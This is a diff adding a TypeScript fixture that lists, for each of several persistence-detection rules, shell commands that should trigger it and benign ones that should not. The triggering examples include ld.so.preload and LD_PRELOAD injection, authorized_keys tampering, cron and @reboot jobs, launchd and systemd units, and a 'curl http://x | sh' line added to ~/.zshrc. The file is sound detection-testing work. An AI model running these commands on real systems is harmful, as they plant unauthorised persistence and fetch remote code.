@@ -1,0 +1,84 @@
+import type { RuleExamples } from './rule-examples.ts';
+
+export const PERSISTENCE_EXAMPLES: RuleExamples = {
+  'persistence.at-job': {
+    fires: ['echo "/tmp/evil" | at now + 1 minute'],
+    silent: ['at -l'],
+  },
+  'persistence.autostart': {
+    fires: ['cp evil.plist ~/Library/LaunchAgents/'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.bits-of-trap': {
+    fires: ["trap 'curl http://x' EXIT"],
+    silent: ['trap \'rm -f "$tmp"\' EXIT'],
+  },
+  'persistence.boot-script': {
+    fires: ['echo x > /etc/rc.local'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.cron-file': {
+    fires: ['echo "* * * * * root /tmp/x" >> /etc/crontab'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.crontab': {
+    fires: [
+      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
+      'crontab -r',
+      'crontab /tmp/evil',
+      'echo "@reboot /tmp/x" | crontab -',
+      'sudo crontab -e',
+      'crontab -u root -r',
+      'crontab -e',
+    ],
+    silent: ['crontab -l'],
+  },
+  'persistence.git-hook': {
+    fires: ['cp hook .git/hooks/pre-commit'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.launchd': {
+    fires: ['launchctl load ~/Library/LaunchAgents/evil.plist'],
+    silent: ['launchctl list'],
+  },
+  'persistence.loader': {
+    fires: ['echo /tmp/evil.so > /etc/ld.so.preload'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.login-hook': {
+    fires: ['defaults write com.apple.loginwindow LogoutHook /x'],
+    silent: [
+      'defaults read x',
+      "osascript -e 'beep'",
+      'defaults write com.apple.dock autohide -bool true',
+      'defaults read com.apple.dock',
+    ],
+  },
+  'persistence.login-key': {
+    fires: ['echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.preload': {
+    fires: ['LD_PRELOAD=/tmp/evil.so ls'],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.profile': {
+    fires: [
+      "echo '/tmp/evil &' >> ~/.bashrc",
+      "echo 'curl http://x | sh' >> ~/.zshrc",
+      "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc",
+      "echo 'alias g=git' >> ~/.zshrc",
+      'echo \'eval "$(starship init bash)"\' >> ~/.bashrc',
+      'echo \'eval "$(direnv hook zsh)"\' >> ~/.zshrc',
+    ],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+  'persistence.transient-timer': {
+    fires: ['systemd-run --on-calendar=hourly /tmp/x'],
+    silent: ['systemd-run --scope ls'],
+  },
+  'persistence.unit-file': {
+    fires: ['cp x.service /etc/systemd/system/', "echo 'x' > /etc/systemd/system/evil.service"],
+    silent: ['touch x', "echo 'show stat' | socat stdio /run/haproxy.sock", 'touch -c x', 'crontab -l'],
+  },
+};
